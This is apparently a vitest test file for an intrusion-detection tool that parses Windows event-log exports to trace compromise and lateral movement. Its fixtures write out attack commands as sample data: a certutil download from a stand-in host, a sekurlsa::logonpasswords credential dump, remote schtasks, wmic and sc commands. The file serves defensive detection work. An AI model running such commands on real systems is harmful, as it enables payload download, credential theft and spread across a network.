import { describe, expect, it } from 'vitest'
import { readViewerCsv } from '../../../formats/eventlog/viewer-csv.ts'
import { derivedCase } from '../../evidence/case-sheet.ts'
import { Machines } from '../machines/model.ts'
import type { EventLogFile } from '../model.ts'
import { doingsOf, fetchedBy, reachOf } from './commands.ts'
import { findIntrusion } from './intrusion.ts'
import { isUnusualPlace } from './model.ts'
import { tellIntrusion } from './story.ts'

const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`
/** Rows as Event Viewer saves them: time, source, number, description. */
const viewer = (headings: string, rows: [time: string, source: string, id: number, description: string[]][]): Buffer =>
  Buffer.from(
    `\ufeff${headings}\r\n${rows.map(([time, source, id, lines]) => `x,${time},${source},${id},x,${cell(lines.join('\r\n'))}`).join('\r\n')}\r\n`,
  )
const english = 'Level,Date and Time,Source,Event ID,Task Category'
const japanese = 'レベル,日付と時刻,ソース,イベント ID,タスクのカテゴリ'
const security = 'Microsoft-Windows-Security-Auditing'
const scheduler = 'Microsoft-Windows-TaskScheduler'
const log = (file: string, bytes: Buffer): EventLogFile => ({
  file,
  events: readViewerCsv(bytes, { offsetMinutes: 540 }),
  damage: [],
})
const process = (image: string, command: string, parent: string, account = 'y.mori'): string[] => [
  'A new process has been created.',
  '',
  'Creator Subject:',
  `\tAccount Name:\t\t${account}`,
  '\tAccount Domain:\t\tOFFICE',
  '',
  'Process Information:',
  `\tNew Process Name:\t${image}`,
  `\tCreator Process Name:\t${parent}`,
  `\tProcess Command Line:\t${command}`,
]
const cmd = 'C:\\Windows\\System32\\cmd.exe'

/** Two machines: on the first a program gives commands and puts a task on the second. Clocks of twelve hours, no names of computers. */
const first = log(
  'north/Security.csv',
  viewer(english, [
    ['3/4/2031 1:00:00 PM', security, 4688, process('C:\\ProgramData\\q.exe', 'C:\\ProgramData\\q.exe', cmd)],
    ['3/4/2031 1:01:00 PM', security, 4688, process(cmd, 'cmd /c whoami /all', 'C:\\ProgramData\\q.exe')],
    [
      '3/4/2031 1:02:00 PM',
      security,
      4688,
      process(
        cmd,
        'cmd /c certutil -urlcache -f http://files.supplier.example/t.bin C:\\ProgramData\\t.exe',
        'C:\\ProgramData\\q.exe',
      ),
    ],
    [
      '3/4/2031 1:03:00 PM',
      security,
      4688,
      process('C:\\ProgramData\\t.exe', 'C:\\ProgramData\\t.exe sekurlsa::logonpasswords', cmd),
    ],
    [
      '3/4/2031 1:20:00 PM',
      security,
      4688,
      process(
        'C:\\Windows\\System32\\schtasks.exe',
        'schtasks /create /s SOUTH /tn upd /tr C:\\Temp\\t.exe /sc once /st 14:00',
        'C:\\ProgramData\\q.exe',
      ),
    ],
    [
      '3/4/2031 1:30:00 PM',
      security,
      4672,
      ['Special privileges assigned.', '', 'Subject:', '\tAccount Name:\t\tNORTH$'],
    ],
  ]),
)
const second = log(
  'south/TaskScheduler.csv',
  viewer(japanese, [
    [
      '2031/03/04 13:20:10',
      scheduler,
      106,
      ['ユーザー "OFFICE\\adm" はタスク スケジューラのタスク "\\upd" を登録しました。'],
    ],
    [
      '2031/03/04 14:00:00',
      scheduler,
      200,
      [
        'タスク スケジューラは、タスク "\\upd" のインスタンス "{B234E0FB-2EEF-46B9-BC0F-A9F1CD1D51B1}" で操作 "C:\\Temp\\t.exe" を開始しました。',
      ],
    ],
    [
      '2031/03/04 14:05:00',
      scheduler,
      100,
      [
        'タスク スケジューラは、ユーザー "OFFICE\\SOUTH$" の "\\Vendor Update" タスクの "{B234E0FB-2EEF-46B9-BC0F-A9F1CD1D51B2}" インスタンスを開始しました。',
      ],
    ],
  ]),
)
const sheet = derivedCase('office')

describe('event logs without a proxy log', () => {
  it('R-097 R-103: the machine, what was done there, the task on the next machine and the host outside are told', () => {
    const found = findIntrusion([first, second], new Machines([]), sheet)
    expect(
      found.machines.map(one => [one.machine, one.cause.type, 'fromTerminal' in one.cause && one.cause.fromTerminal]),
    ).toEqual([
      ['NORTH', 'unknown', false],
      ['SOUTH', 'lateral', 'NORTH'],
    ])
    expect(found.movements).toMatchObject([
      {
        from: 'NORTH',
        to: 'SOUTH',
        means: 'scheduled-task',
        account: 'adm',
        bothSides: true,
        program: 'C:\\Temp\\t.exe',
      },
    ])
    expect(new Date(found.movements[0]?.ran ?? 0).toISOString()).toBe('2031-03-04T05:00:00.000Z')
    expect(found.named).toMatchObject([
      { host: 'files.supplier.example', reported: true, contacts: [{ client: 'NORTH', successes: 1, failures: 0 }] },
    ])
    const since = new Map(found.machines.map(one => [one.machine, one.first]))
    const kinds = tellIntrusion(found, since).map(event => event.kind)
    expect(new Set(kinds)).toEqual(new Set(['infection', 'lateral', 'program', 'collection', 'download', 'privilege']))
  })

  it('the same log handed over twice is counted once', () => {
    const one = findIntrusion([first], new Machines([]), sheet)
    const twice = findIntrusion([first, { ...first, file: 'north/copy.csv' }], new Machines([]), sheet)
    expect(twice.signs.length).toBe(one.signs.length)
  })

  it('a month of administration accuses nobody', () => {
    const admin = log(
      'desk/Security.csv',
      viewer(english, [
        [
          '3/4/2031 9:00:00 AM',
          security,
          4688,
          process(cmd, 'cmd /c net use \\\\SOUTH\\c$', 'C:\\Windows\\explorer.exe'),
        ],
        ['3/5/2031 9:00:00 AM', security, 4688, process(cmd, 'cmd /c ipconfig /all', 'C:\\Windows\\explorer.exe')],
        [
          '3/6/2031 9:00:00 AM',
          security,
          4688,
          process('C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /s SOUTH /tr C:\\Tools\\inventory.exe', cmd),
        ],
        [
          '3/7/2031 9:00:00 AM',
          security,
          4688,
          process('C:\\Windows\\System32\\curl.exe', 'curl https://vendor.example/setup.msi', cmd),
        ],
        [
          '3/8/2031 9:00:00 AM',
          security,
          4688,
          process(
            'C:\\Windows\\System32\\powershell.exe',
            'powershell -ExecutionPolicy Bypass -File C:\\Tools\\x.ps1',
            cmd,
          ),
        ],
        [
          '3/9/2031 9:00:00 AM',
          security,
          4688,
          process(
            'C:\\Windows\\System32\\reg.exe',
            'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\x',
            cmd,
          ),
        ],
      ]),
    )
    expect(findIntrusion([admin], new Machines([]), sheet).machines).toEqual([])
  })

  it('an address is the machine whose commands and whose logons elsewhere meet in the same seconds', () => {
    const share = (time: string): [string, string, number, string[]] => [
      time,
      security,
      4688,
      process(cmd, 'cmd /c net use \\\\SOUTH\\c$', 'C:\\ProgramData\\q.exe'),
    ]
    const logon = (time: string): [string, string, number, string[]] => [
      time,
      security,
      4624,
      [
        'An account was successfully logged on.',
        '',
        'Logon Type:\t\t\t3',
        '',
        'New Logon:',
        '\tAccount Name:\t\ty.mori',
        '',
        'Network Information:',
        '\tSource Network Address:\t10.7.0.9',
      ],
    ]
    const named = log(
      'north/a.csv',
      viewer(english, [
        share('3/4/2031 1:00:00 PM'),
        share('3/4/2031 1:31:07 PM'),
        ['3/4/2031 1:32:00 PM', security, 4672, ['x', '', 'Subject:', '\tAccount Name:\t\tNORTH$']],
      ]),
    )
    const target = log('SOUTH/b.csv', viewer(english, [logon('3/4/2031 1:00:01 PM'), logon('3/4/2031 1:31:08 PM')]))
    const found = findIntrusion([named, target, first], new Machines([]), sheet)
    expect(found.machines.find(one => one.machine === 'NORTH')?.addresses).toEqual(['10.7.0.9'])
  })
})

describe('a command line', () => {
  it.each([
    ['at.exe \\\\PC-7 03:10 cmd /c "C:\\x\\y.exe"', 'PC-7', 'scheduled-task'],
    ['schtasks /create /s PC-7 /tr C:\\x\\y.exe /sc once', 'PC-7', 'scheduled-task'],
    ['sc \\\\PC-7 create z binpath= C:\\x\\y.exe', 'PC-7', 'service'],
    ['wmic /node:"PC-7" process call create "cmd /c x"', 'PC-7', 'wmi'],
    ['winrs -r:PC-7 ipconfig', 'PC-7', 'remote-shell'],
    ['net use \\\\PC-7\\c$ /user:adm', 'PC-7', 'share'],
    ['copy C:\\a\\b.exe \\\\PC-7\\admin$\\b.exe', 'PC-7', 'share'],
  ])('%s reaches for another machine', (command, target, means) => {
    expect(reachOf(command)).toMatchObject({ target, means })
  })

  it('on the machine itself it reaches for none', () => {
    for (const command of ['net use', 'sc query', 'copy a b', 'at 03:10 x', 'net use \\\\localhost\\c$'])
      expect(reachOf(command)).toBeUndefined()
  })

  it('names the host it fetches from and where it stores the file', () => {
    expect(fetchedBy('$p.DownloadFile("http://a.example:8080/x/y.exe", "C:\\Q\\y.exe")')).toEqual({
      host: 'a.example',
      stored: 'C:\\Q\\y.exe',
    })
  })

  it('that every desk uses says nothing', () => {
    for (const command of [
      '"C:\\Program Files\\Microsoft Office\\winword.exe" /n',
      'notepad a.txt',
      'cmd /c echo hello',
    ])
      expect(doingsOf(command)).toEqual([])
  })

  it('programs are installed in few places', () => {
    for (const path of [
      'C:\\Windows\\System32\\x.exe',
      '"C:\\Program Files (x86)\\a\\b.exe"',
      'C:\\Users\\a\\AppData\\Local\\Vendor\\b.exe',
      'x.exe',
    ])
      expect(isUnusualPlace(path)).toBe(false)
    for (const path of [
      'C:\\Windows\\Temp\\x.exe',
      'C:\\Users\\a\\AppData\\Local\\Temp\\b.exe',
      'D:\\x.exe',
      'C:\\ProgramData\\x.exe',
    ])
      expect(isUnusualPlace(path)).toBe(true)
  })
})
